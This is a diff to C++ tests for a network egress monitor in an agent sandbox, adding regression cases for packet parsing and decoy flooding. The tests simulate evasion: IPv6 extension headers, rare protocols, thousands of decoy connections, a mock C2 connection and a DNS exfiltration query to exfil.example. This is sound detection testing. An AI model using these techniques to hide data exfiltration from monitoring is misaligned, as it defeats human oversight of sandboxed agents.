@@ -17,7 +17,6 @@
 namespace ovvoc::agent::sandbox {
 namespace {
 
-using Protocol = EgressAttempt::Protocol;
 using Bytes = std::vector<uint8_t>;
 
 void Put16(Bytes& b, size_t at, int v) {
@@ -27,6 +26,10 @@ void Put16(Bytes& b, size_t at, int v) {
 
 Bytes Transport(int protocol, int port, uint8_t tcp_flags, const Bytes& payload) {
   Bytes t(protocol == IPPROTO_TCP ? 20 : 8, 0);
+  if (protocol == IPPROTO_ICMP || protocol == IPPROTO_ICMPV6) {
+    t[0] = uint8_t(port);  // the ICMP type
+    return t;
+  }
   Put16(t, 0, 40000);
   Put16(t, 2, port);
   if (protocol == IPPROTO_TCP) {
@@ -53,12 +56,21 @@ Bytes Ipv4(const char* destination, int protocol, int port, uint8_t tcp_flags = 
   return p;
 }
 
-Bytes Ipv6(const char* destination, int protocol, int port, uint8_t tcp_flags = 0x02) {
+// `extensions`: IPv6 extension headers (protocol numbers) to put before the transport header.
+Bytes Ipv6(const char* destination, int protocol, int port, uint8_t tcp_flags = 0x02,
+           const std::vector<int>& extensions = {}) {
   Bytes p(40, 0);
   p[0] = 0x60;
-  p[6] = uint8_t(protocol);
+  p[6] = uint8_t(extensions.empty() ? protocol : extensions[0]);
   ::inet_pton(AF_INET6, "::1", p.data() + 8);
   ::inet_pton(AF_INET6, destination, p.data() + 24);
+  for (size_t i = 0; i < extensions.size(); ++i) {
+    const uint8_t next = uint8_t(i + 1 < extensions.size() ? extensions[i + 1] : protocol);
+    Bytes header = {next, 0, 0, 0, 0, 0, 0, 0};  // 8 bytes (a fragment header: offset 0)
+    if (extensions[i] == IPPROTO_ROUTING) header = {next, 2, 0, 0, 0, 0, 0, 0};
+    if (extensions[i] == IPPROTO_ROUTING) header.resize(24, 0);  // (2 + 1) * 8 bytes
+    p.insert(p.end(), header.begin(), header.end());
+  }
   Bytes t = Transport(protocol, port, tcp_flags, {});
   p.insert(p.end(), t.begin(), t.end());
   return p;
@@ -82,7 +94,7 @@ Bytes DnsQuery(const std::string& name) {
 TEST_CASE("a TCP SYN to another address is an attempt; the rest of the connection is not") {
   std::optional<EgressAttempt> a = ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443));
   REQUIRE(a);
-  CHECK(a->protocol == Protocol::kTcp);
+  CHECK(a->protocol == IPPROTO_TCP);
   CHECK(a->address == "1.1.1.1");
   CHECK(a->port == 443);
   CHECK(a->Describe() == "tcp 1.1.1.1:443");
@@ -115,6 +127,50 @@ TEST_CASE("IPv6 and UDP attempts are recognised") {
   CHECK(udp->Describe() == "udp 8.8.8.8:123");
 }
 
+// Regression: UDP-Lite, and IPv6 with an extension header (a routing header is settable
+// without privileges), left no finding.
+TEST_CASE("every protocol to another address is an attempt, through IPv6 extension headers") {
+  std::optional<EgressAttempt> lite = ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_UDPLITE, 9));
+  REQUIRE(lite);
+  CHECK(lite->Describe() == "udplite 1.1.1.1:9");
+  std::optional<EgressAttempt> sctp = ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_SCTP, 80));
+  REQUIRE(sctp);
+  CHECK(sctp->Describe() == "sctp 1.1.1.1:80");
+  std::optional<EgressAttempt> other = ParseEgressPacket(Ipv4("1.1.1.1", 253, 0));
+  REQUIRE(other);
+  CHECK(other->Describe() == "ip protocol 253 1.1.1.1");
+  std::optional<EgressAttempt> routed = ParseEgressPacket(
+      Ipv6("2001:db8::1", IPPROTO_UDP, 4444, 0,
+           {IPPROTO_HOPOPTS, IPPROTO_ROUTING, IPPROTO_DSTOPTS, IPPROTO_FRAGMENT}));
+  REQUIRE(routed);
+  CHECK(routed->Describe() == "udp [2001:db8::1]:4444");
+  std::optional<EgressAttempt> routed_syn =
+      ParseEgressPacket(Ipv6("2001:db8::1", IPPROTO_TCP, 443, 0x02, {IPPROTO_ROUTING}));
+  REQUIRE(routed_syn);
+  CHECK(routed_syn->Describe() == "tcp [2001:db8::1]:443");
+  // A DNS query to loopback behind an extension header is still DNS.
+  std::optional<EgressAttempt> hidden_dns =
+      ParseEgressPacket(Ipv6("::1", IPPROTO_UDP, 53, 0, {IPPROTO_DSTOPTS}));
+  REQUIRE(hidden_dns);
+  CHECK(hidden_dns->dns());
+  // A later fragment has no ports, but it goes somewhere.
+  Bytes fragment = Ipv4("1.1.1.1", IPPROTO_UDP, 9);
+  Put16(fragment, 6, 0x0010);
+  std::optional<EgressAttempt> piece = ParseEgressPacket(fragment);
+  REQUIRE(piece);
+  CHECK(piece->Describe() == "udp 1.1.1.1");
+}
+
+TEST_CASE("what the kernel answers is not an attempt") {
+  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443, 0x14)));  // RST+ACK
+  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 3)));         // unreachable
+  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 0)));         // echo reply
+  CHECK_FALSE(ParseEgressPacket(Ipv6("2001:db8::1", IPPROTO_ICMPV6, 1)));   // unreachable
+  CHECK(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 8)));               // echo request
+  CHECK(ParseEgressPacket(Ipv6("2001:db8::1", IPPROTO_ICMPV6, 128)));
+  CHECK_FALSE(ParseEgressPacket(Ipv6("::1", IPPROTO_TCP, 53, 0x14)));
+}
+
 TEST_CASE("malformed and foreign packets are not attempts") {
   CHECK_FALSE(ParseEgressPacket({}));
   Bytes p = Ipv4("1.1.1.1", IPPROTO_TCP, 443);
@@ -122,13 +178,11 @@ TEST_CASE("malformed and foreign packets are not attempts") {
   Bytes short_header = p;
   short_header[0] = 0x44;  // an IPv4 header of 16 bytes
   CHECK_FALSE(ParseEgressPacket(short_header));
-  Bytes fragment = p;
-  Put16(fragment, 6, 0x0010);  // a later fragment
-  CHECK_FALSE(ParseEgressPacket(fragment));
-  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 0)));
   Bytes v5 = p;
   v5[0] = 0x55;
   CHECK_FALSE(ParseEgressPacket(v5));
+  CHECK_FALSE(
+      ParseEgressPacket(absl::MakeConstSpan(Ipv6("2001:db8::1", IPPROTO_TCP, 1)).subspan(0, 39)));
 }
 
 TEST_CASE("a DNS name is read with care") {
@@ -148,24 +202,28 @@ TEST_CASE("a DNS name is read with care") {
   CHECK(a->dns_name.empty());
 }
 
-// Connects to `address`:`port` from the calling thread's namespace; the errno, 0 on success.
-int TryConnect(int family, const char* address, int port) {
-  UniqueFd fd(::socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0));
-  sockaddr_storage storage{};
-  socklen_t length;
+// `address`:`port` as a socket address of `family`; its length.
+socklen_t MakeAddress(int family, const char* address, int port, sockaddr_storage& storage) {
+  storage = {};
   if (family == AF_INET) {
     auto* in = reinterpret_cast<sockaddr_in*>(&storage);
     in->sin_family = AF_INET;
     in->sin_port = htons(uint16_t(port));
     ::inet_pton(AF_INET, address, &in->sin_addr);
-    length = sizeof(*in);
-  } else {
-    auto* in6 = reinterpret_cast<sockaddr_in6*>(&storage);
-    in6->sin6_family = AF_INET6;
-    in6->sin6_port = htons(uint16_t(port));
-    ::inet_pton(AF_INET6, address, &in6->sin6_addr);
-    length = sizeof(*in6);
+    return sizeof(*in);
   }
+  auto* in6 = reinterpret_cast<sockaddr_in6*>(&storage);
+  in6->sin6_family = AF_INET6;
+  in6->sin6_port = htons(uint16_t(port));
+  ::inet_pton(AF_INET6, address, &in6->sin6_addr);
+  return sizeof(*in6);
+}
+
+// Connects to `address`:`port` from the calling thread's namespace; the errno, 0 on success.
+int TryConnect(int family, const char* address, int port) {
+  UniqueFd fd(::socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0));
+  sockaddr_storage storage;
+  const socklen_t length = MakeAddress(family, address, port, storage);
   return ::connect(fd.get(), reinterpret_cast<sockaddr*>(&storage), length) == 0 ? 0 : errno;
 }
 
@@ -227,25 +285,69 @@ TEST_CASE("the monitor sees direct connections and DNS queries in a namespace, a
   EgressMonitor::Report report = monitor.Drain();
   std::vector<std::string> seen;
   for (const EgressMonitor::Observed& o : report.attempts)
-    seen.push_back(o.attempt.Describe() + " x" + std::to_string(o.count));
+    seen.push_back(o.Describe() + " x" + std::to_string(o.count));
   CHECK(seen == std::vector<std::string>{"tcp 1.1.1.1:443 x2", "tcp [2606:4700::1111]:443 x1",
                                          "DNS query for exfil.example.net (udp 127.0.0.1:53) x1"});
-  CHECK(report.more == 0);
+  CHECK(report.more_destinations == 0);
+  CHECK(report.dropped == 0);
   CHECK(monitor.Drain().attempts.empty());  // drained
 }
 
-TEST_CASE("the monitor counts what it does not keep") {
+// Sends one UDP-family datagram to `address`:`port` from the calling thread's namespace.
+void SendDatagram(int family, int protocol, const char* address, int port, const Bytes& data) {
+  UniqueFd fd(::socket(family, SOCK_DGRAM | SOCK_CLOEXEC, protocol));
+  sockaddr_storage storage;
+  const socklen_t length = MakeAddress(family, address, port, storage);
+  ::sendto(fd.get(), data.data(), data.size(), 0, reinterpret_cast<sockaddr*>(&storage), length);
+}
+
+// Regression: after 64 distinct decoys the real exfiltration was only "5 more".
+TEST_CASE("decoys cannot push a real attempt out of sight") {
   std::unique_ptr<Watched> watched = WatchedNetns();
   if (!watched) return;
   const std::string& netns = watched->netns.path();
   EgressMonitor& monitor = *watched->monitor;
-  const int distinct = int(EgressMonitor::kMaxDistinct) + 10;
   REQUIRE(testing::RunInNetns(netns, [&] {
-    for (int port = 1; port <= distinct; ++port) (void)TryConnect(AF_INET, "9.9.9.9", port);
+    // Two thousand decoys at one address, every port a new one, over two protocols...
+    for (int port = 1; port <= 1000; ++port) (void)TryConnect(AF_INET, "9.9.9.9", port);
+    for (int port = 1; port <= 1000; ++port) {
+      SendDatagram(AF_INET, IPPROTO_UDPLITE, "9.9.9.9", port, {1, 2, 3});
+    }
+    // ...then the real ones: a C2 connection, DNS exfiltration, an IPv6 datagram.
+    (void)TryConnect(AF_INET, "203.0.113.7", 8443);
+    SendDatagram(AF_INET, IPPROTO_UDP, "127.0.0.1", 53, DnsQuery("c2VjcmV0.exfil.example"));
+    SendDatagram(AF_INET6, IPPROTO_UDPLITE, "2001:db8::7", 4000, {1});
   }));
   EgressMonitor::Report report = monitor.Drain();
-  CHECK(report.attempts.size() == EgressMonitor::kMaxDistinct);
-  CHECK(report.more == 10);
+  std::vector<std::string> destinations;
+  for (const EgressMonitor::Observed& o : report.attempts) {
+    destinations.push_back(o.attempt.destination());
+  }
+  CHECK(destinations == std::vector<std::string>{"9.9.9.9", "203.0.113.7", "c2VjcmV0.exfil.example",
+                                                 "2001:db8::7"});
+  REQUIRE(!report.attempts.empty());
+  CHECK(report.attempts[0].count == 2000);
+  CHECK(report.attempts[0].variants.size() == EgressMonitor::kMaxVariants);
+  CHECK(report.attempts[0].Describe().find("and 1991 more") != std::string::npos);
+  CHECK(report.more_destinations == 0);
+  CHECK(report.dropped == 0);
+}
+
+TEST_CASE("past the cap, distinct destinations are counted") {
+  std::unique_ptr<Watched> watched = WatchedNetns();
+  if (!watched) return;
+  const std::string& netns = watched->netns.path();
+  EgressMonitor& monitor = *watched->monitor;
+  const int distinct = int(EgressMonitor::kMaxDestinations) + 10;
+  REQUIRE(testing::RunInNetns(netns, [&] {
+    for (int i = 0; i < distinct; ++i) {
+      const std::string address = "10.9." + std::to_string(i / 250) + "." + std::to_string(i % 250);
+      SendDatagram(AF_INET, IPPROTO_UDP, address.c_str(), 9, {1});
+    }
+  }));
+  EgressMonitor::Report report = monitor.Drain();
+  CHECK(report.attempts.size() == EgressMonitor::kMaxDestinations);
+  CHECK(report.more_destinations + report.dropped >= 10);
 }
 
 TEST_CASE("the monitor refuses a path that is not a network namespace") {
